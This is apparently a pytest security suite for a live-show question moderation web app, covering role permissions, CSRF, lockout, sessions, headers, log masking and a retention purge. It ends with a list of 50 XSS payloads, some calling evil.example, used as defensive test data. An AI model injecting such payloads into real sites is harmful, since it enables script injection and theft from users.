"""Security: every route × every role from the permission table, CSRF, lockout, sessions, tokens,
input limits, headers, masked logs, retention purge, audit trail, and a schemathesis fuzz run."""

from __future__ import annotations

import io
import logging
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from server.api import ENDPOINTS, PUBLIC, SESSION, TOKEN
from server.roles import ACTION_PERMISSION, ROLES, allowed, may_act
from server.settings import Settings
from tests.conftest import PASSWORD, LiveServer, Session, free_port, message, run_server
from tests.livekit import ingest

ANONYMOUS = "anonymous"


@pytest.fixture(scope="module")
def shared(module_db_url: str) -> Iterator[LiveServer]:
    settings = Settings(db=module_db_url, port=free_port())
    yield from run_server(settings)


@pytest.fixture(scope="module")
def world(shared: LiveServer) -> dict[str, Any]:
    show = shared.show()
    qid = ingest(shared.url, shared.token("ingest"), [message(1)]).json()["ids"][0]
    sessions = {role: shared.login(f"sec-{role}", role) for role in ROLES}
    return {"show": show["id"], "question": qid, "sessions": sessions}


def expected(permission: str, who: str) -> str:
    if permission == PUBLIC:
        return "open"
    if permission == TOKEN:
        return "denied"  # a session is not a token
    if who == ANONYMOUS:
        return "unauthorized"
    if permission == SESSION or allowed(who, permission):
        return "open"
    return "forbidden"


CASES = [(e.method, e.path, e.permission, who) for e in ENDPOINTS if e.path != "/api/auth/logout"
         for who in (*ROLES, ANONYMOUS)]


@pytest.mark.parametrize(("method", "path", "permission", "who"), CASES,
                         ids=[f"{m} {p} {w}" for m, p, _, w in CASES])
def test_every_route_for_every_role(shared: LiveServer, world: dict[str, Any], method: str, path: str,
                                    permission: str, who: str) -> None:
    url = (path.replace("{show_id:int}", str(world["show"])).replace("{question_id:int}", str(world["question"]))
           .replace("{fmt:str}", "csv").replace("{dead_letter_id:int}", "1"))
    if who == ANONYMOUS:
        r = httpx.request(method, shared.url + url, json={}, headers={"Origin": shared.url})
    else:
        session: Session = world["sessions"][who]
        r = session.client.request(method, url, json={}, headers=session.headers)
    want = expected(permission, who)
    if want == "open":
        assert r.status_code not in (401, 403), r.text
    elif want == "unauthorized":
        assert r.status_code == 401, r.text
    elif want == "forbidden":
        assert r.status_code == 403 and r.json()["error"]["code"] == "forbidden", r.text
    else:
        assert r.status_code == 401, r.text


ACTION_CASES = [(a, role) for a in ACTION_PERMISSION for role in ROLES]


@pytest.mark.parametrize(("action", "role"), ACTION_CASES, ids=[f"{a}-{r}" for a, r in ACTION_CASES])
def test_every_action_for_every_role(shared: LiveServer, world: dict[str, Any], action: str, role: str) -> None:
    session: Session = world["sessions"][role]
    q = session.get(f"/api/questions/{world['question']}").json()
    r = session.post(f"/api/questions/{q['id']}/actions", {"action": action, "version": -1})
    if may_act(role, action):
        assert r.status_code != 403, r.text  # stale version or bad fields, but not refused by role
    else:
        assert r.status_code == 403 and r.json()["error"]["code"] == "forbidden"


def test_cross_site_form_post_and_tokenless_fetch_are_refused(live: LiveServer) -> None:
    producer = live.login("prod", "producer")
    form = producer.client.post("/api/shows", content=b"title=x&starts_at=2026-11-24T20:00:00%2B06:00",
                                headers={"content-type": "application/x-www-form-urlencoded",
                                         "Origin": "https://evil.example"})
    assert form.status_code == 403
    same_site_form = producer.client.post("/api/shows", content=b"title=x", headers={
        "content-type": "application/x-www-form-urlencoded", **producer.headers})
    assert same_site_form.status_code == 415
    no_token = producer.client.post("/api/shows", json={"title": "x", "starts_at": "2026-11-24T20:00:00+06:00"},
                                    headers={"Origin": live.url})
    assert no_token.status_code == 403 and no_token.json()["error"]["code"] == "csrf"
    wrong_origin = producer.client.post("/api/shows", json={"title": "x", "starts_at": "2026-11-24T20:00:00+06:00"},
                                        headers={**producer.headers, "Origin": "https://evil.example"})
    assert wrong_origin.status_code == 403 and wrong_origin.json()["error"]["code"] == "bad_origin"
    assert producer.get("/api/shows").json() == []


def test_login_locks_an_account_after_repeated_failures(live: LiveServer) -> None:
    live.user("target", "moderator")
    with httpx.Client(base_url=live.url) as c:
        for _ in range(5):
            assert c.post("/api/auth/login", json={"username": "target", "password": "guess-1234"}).status_code == 401
        locked = c.post("/api/auth/login", json={"username": "target", "password": PASSWORD})
        assert locked.status_code == 429 and locked.json()["error"]["code"] == "locked"
        assert "try again in" in locked.json()["error"]["message"] and int(locked.headers["retry-after"]) > 0
        other = live.login("bystander", "moderator")  # other accounts are not locked out
        assert other.get("/api/auth/me").status_code == 200
    log = live.login("boss", "producer").get("/api/shows").status_code
    assert log == 200
    failed = live.sql("SELECT count(*) FROM events WHERE kind = 'login_failed' AND actor = 'target'")
    assert failed[0][0] == 5


def test_sessions_end_on_disable_password_change_and_idle(live: LiveServer) -> None:
    from server.auth import hash_password

    a = live.login("sess-a", "moderator")
    live.call(live.efir.store.set_disabled("sess-a", True, "admin"))
    assert a.get("/api/auth/me").status_code == 401
    with httpx.Client(base_url=live.url) as c:
        assert c.post("/api/auth/login", json={"username": "sess-a", "password": PASSWORD}).status_code == 401
    b = live.login("sess-b", "moderator")
    live.call(live.efir.store.set_password("sess-b", hash_password("Another-pass-99")))
    assert b.get("/api/auth/me").status_code == 401
    c2 = live.login("sess-c", "moderator")
    live.efir.auth.idle_seconds = 0
    try:
        assert c2.get("/api/auth/me").status_code == 401
    finally:
        live.efir.auth.idle_seconds = 3600


def test_password_rules() -> None:
    from server.auth import check_password
    from server.errors import Invalid

    for bad, name in (("short", ""), ("aigerim-2026!", "aigerim"), ("aaaaaaaaaaaa", ""), ("password1", "")):
        with pytest.raises(Invalid):
            check_password(bad, name)
    check_password("Жол-2026-Алатау", "aigerim")


def test_prompter_token_is_read_only_and_scoped(live: LiveServer) -> None:
    show = live.show()
    key = live.token("prompter", show["id"])
    auth = {"Authorization": f"Bearer {key}"}
    r = httpx.post(live.url + "/api/ingest", json={"messages": [message(1)]}, headers=auth)
    assert r.status_code == 401
    r = httpx.get(live.url + f"/api/shows/{show['id']}/questions", headers={"Authorization": f"Bearer {key}"})
    assert r.status_code == 401


def test_headers_on_pages_and_api(live: LiveServer) -> None:
    r = httpx.get(live.url + "/healthz")
    csp = r.headers["content-security-policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["referrer-policy"] == "same-origin"


def test_prompter_frame_ancestors_are_configurable(db_url: str) -> None:
    settings = Settings(db=db_url, port=free_port(),
                        prompter_frame_ancestors="'self' https://studio.example")
    for live in run_server(settings):
        show = live.show()
        prompter = httpx.get(f"{live.url}/prompter/{show['id']}")
        assert "frame-ancestors 'self' https://studio.example" in prompter.headers["content-security-policy"]
        desk = httpx.get(f"{live.url}/desk")
        assert "frame-ancestors 'none'" in desk.headers["content-security-policy"]


def test_logs_mask_personal_data() -> None:
    from server.logs import MaskingJSONFormatter

    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(MaskingJSONFormatter())
    logger = logging.getLogger("efir.test-mask")
    logger.addHandler(handler)
    logger.propagate = False
    logger.warning("from %s: call me at +7 701 234 56 78 or 87011234567, mail aigerim.k@mail.kz", "viewer")
    out = stream.getvalue()
    for secret in ("701 234", "87011234567", "aigerim.k@"):
        assert secret not in out
    assert '"level":"warning"' in out and "[телефон]" in out


def test_retention_purge_removes_contacts_and_keeps_counts_and_the_log(live: LiveServer) -> None:
    from server.retention import cutoff

    old, current = live.show("Old show"), live.show("Tonight", live=False)
    token = live.token("ingest")
    m = message(1, "Когда дадут воду?", author={"name": "Айгерим Садыкова", "handle": "@aigerim",
                                               "contact": "+77011234567"})
    ingest(live.url, token, [m])
    live.call(live.efir.store.update_show(old["id"], {"status": "ended"}, "prod"))
    live.call(live.efir.store.update_show(current["id"], {"status": "live"}, "prod"))
    ingest(live.url, token, [{**m, "external_id": "tonight-1"}])
    dry = live.call(live.efir.store.purge(cutoff(-1), True, "test"))  # cutoff tomorrow: the ended show is due
    assert dry.questions == 1 and dry.shows == [old["id"]]
    assert live.sql("SELECT author_contact FROM questions WHERE show_id = ?", old["id"])[0][0]
    report = live.call(live.efir.store.purge(cutoff(-1), False, "test"))
    assert report.questions == 1
    (row,) = live.sql("SELECT author_contact, author_handle, raw, author_name, text FROM questions "
                      "WHERE show_id = ?", old["id"])
    assert row == (None, None, None, "Айгерим", "Когда дадут воду?")
    (tonight,) = live.sql("SELECT author_contact FROM questions WHERE show_id = ?", current["id"])
    assert tonight[0] == "+77011234567"  # a live show keeps its contacts
    kinds = [r[0] for r in live.sql("SELECT kind FROM events ORDER BY seq")]
    assert "purged" in kinds and kinds.count("received") == 2  # counts and the audit trail stay


def test_audit_trail_records_logins_tokens_exports(live: LiveServer) -> None:
    show = live.show()
    live.login("auditor", "producer").get(f"/api/shows/{show['id']}/export.json")
    token_id = live.call(live.efir.store.create_token("ingest", "h" * 64, None, "x"))
    live.call(live.efir.store.revoke_token(token_id))
    kinds = {r[0] for r in live.sql("SELECT kind FROM events")}
    assert {"login", "user_saved", "token_created", "token_revoked", "exported"} <= kinds


def test_schemathesis_finds_no_server_error(live: LiveServer) -> None:
    import schemathesis
    from hypothesis import HealthCheck, given, settings

    from server.openapi import document

    show = live.show()
    ingest(live.url, live.token("ingest"), [message(i) for i in range(3)])
    producer = live.login("fuzz", "producer")
    headers = {**producer.headers, "Cookie": producer.cookie, "Authorization": f"Bearer {live.token('ingest')}"}
    schema = schemathesis.openapi.from_dict(document())
    skip = {"/prompter/{show_id}/events", "/api/auth/logout"}  # an endless stream; ends the session
    failures: list[str] = []
    for result in schema.get_all_operations():
        operation = result.ok()
        if operation.path in skip:
            continue

        @given(case=operation.as_strategy())
        @settings(max_examples=25, deadline=None, derandomize=True, database=None,
                  suppress_health_check=list(HealthCheck))
        def check(case: Any) -> None:
            if "show_id" in (case.path_parameters or {}) and case.path_parameters["show_id"] % 2:
                case.path_parameters["show_id"] = show["id"]
            response = case.call(base_url=live.url, headers=headers, timeout=10)
            if response.status_code >= 500:
                failures.append(f"{case.method} {case.formatted_path}: {response.status_code} {response.text[:200]}")

        check()
    assert not failures, failures[:5]


XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">жми</a>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<isindex action=javascript:alert(1)>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<div style=\"x:expression(alert(1))\">",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=\"x\" onerror=\"fetch('//evil.example')\">",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<x onclick=alert(1)>нажми</x>",
    "<table background=javascript:alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<img srcset=x onerror=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen autofocus onfocus=alert(1)>",
    "<frameset onload=alert(1)>",
    "‮<script>alert(1)</script>",
    "<script>alert('Қашан жол жөнделеді?')</script>",
    "Сұрақ <b>жол</b> туралы <i>қашан</i>?",
    "<!--<img src=x onerror=alert(1)>-->",
]


def test_fifty_xss_payloads_come_back_unchanged_as_data(live: LiveServer) -> None:
    assert len(XSS) == 50
    show = live.show()
    ids = ingest(live.url, live.token("ingest"),
                 [message(i, f"{payload} Когда починят дорогу?") for i, payload in enumerate(XSS)]).json()["ids"]
    mod = live.login("xss-mod")
    for i, qid in enumerate(ids):
        q = mod.get(f"/api/questions/{qid}").json()
        assert q["text_original"] == f"{XSS[i]} Когда починят дорогу?"  # stored and returned exactly
        assert XSS[i].strip() in q["text"] or XSS[i].startswith("\u202e")  # the air text keeps it as text
    listed = mod.get(f"/api/shows/{show['id']}/questions", params={"limit": 100})
    assert listed.headers["content-type"].startswith("application/json")  # never served as HTML
    exported = live.login("xss-prod", "producer").get(f"/api/shows/{show['id']}/export.csv")
    assert "<script>alert(1)</script>" in exported.text and exported.headers["content-type"].startswith("text/csv")
